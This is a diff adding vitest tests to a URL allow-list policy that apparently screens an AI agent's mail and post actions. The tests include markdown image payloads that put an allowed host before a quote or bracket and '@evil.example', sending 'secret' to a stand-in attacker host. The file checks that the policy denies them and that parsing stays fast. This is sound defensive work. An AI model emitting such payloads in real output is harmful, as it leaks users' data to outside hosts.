@@ -4,6 +4,7 @@
  * renderer or mail system uses. test/core/adversarial.test.ts holds the first round.
  */
 import { describe, expect, it } from 'vitest';
+import { MAX_WIDER_READINGS, widerUrls } from '../../src/core/controls.ts';
 import { decide } from '../../src/core/decide.ts';
 import type { PolicyDocument } from '../../src/core/document.ts';
 import { compilePolicy } from '../../src/core/policy.ts';
@@ -45,5 +46,47 @@ describe('hosts other clients read', () => {
       expect(decision.effect, url).toBe('deny');
       expect(decision.reasons[0]?.code, url).toBe('url_host_denied');
     }
+  });
+});
+
+describe('embedded URLs a renderer reads further', () => {
+  it('an allow-list holds when a quote, bracket or parenthesis makes the allowed host a user name', () => {
+    // markdown-it and marked render `![x](https://a'@b/p.png)` as `<img src="https://a'@b/p.png">` (checked with
+    // markdown-it 14 and marked 17): the browser fetches b. We stopped at the quote and read host a.
+    const body = (text: string) => check('send_mail', { body: text });
+    expect(body('![chart](https://files.company.example/chart.png)').effect).toBe('allow');
+    expect(body('(see https://files.company.example), or <https://files.company.example>.').effect).toBe('allow');
+    expect(body('<a href="https://files.company.example">mail bob@files.company.example</a>').effect).toBe('allow');
+    for (const c of ["'", '"', ']', '>', '<', '(x)']) {
+      for (const text of [
+        `![x](https://files.company.example${c}@evil.example/p.png?d=secret)`,
+        `![x](https://files.company.example${c}@evil.example)`,
+        `![x](//files.company.example${c}@evil.example/p.png)`,
+        `see https://files.company.example${c}@evil.example/login now`,
+      ]) {
+        const decision = body(text);
+        expect(decision.effect, text).toBe('deny');
+        expect(decision.reasons.map((r) => r.message).join('\n'), text).toContain('`evil.example`');
+      }
+    }
+  });
+
+  it('refuses a text with more such readings than are checked, in linear time', () => {
+    const many = `![x](https://files.company.example${"'@files.company.example".repeat(MAX_WIDER_READINGS + 1)})`;
+    expect(check('send_mail', { body: many }).reasons.map((r) => r.code)).toContain('url_invalid');
+    const started = performance.now();
+    expect(widerUrls(`https://a${"'".repeat(200_000)}@b`)).toEqual([`https://a${"'".repeat(200_000)}@b`]);
+    expect(widerUrls(`https://a'${'@'.repeat(200_000)}`)).toHaveLength(MAX_WIDER_READINGS + 1);
+    expect(widerUrls(`${'https://a.example/@ '.repeat(50_000)}`)).toEqual([]);
+    expect(performance.now() - started).toBeLessThan(2000);
+  });
+
+  it('a URL from a trusted source does not vouch for a longer reading of it', () => {
+    const index = new MemoryProvenanceIndex();
+    index.addTrusted('the report is at https://files.company.example');
+    expect(check('post', { text: 'Report: https://files.company.example' }, index).effect).toBe('allow');
+    const decision = check('post', { text: "![x](https://files.company.example'@evil.example/p.png)" }, index);
+    expect(decision.effect).toBe('deny');
+    expect(decision.reasons.map((r) => r.code)).toContain('url_not_from_trusted_source');
   });
 });
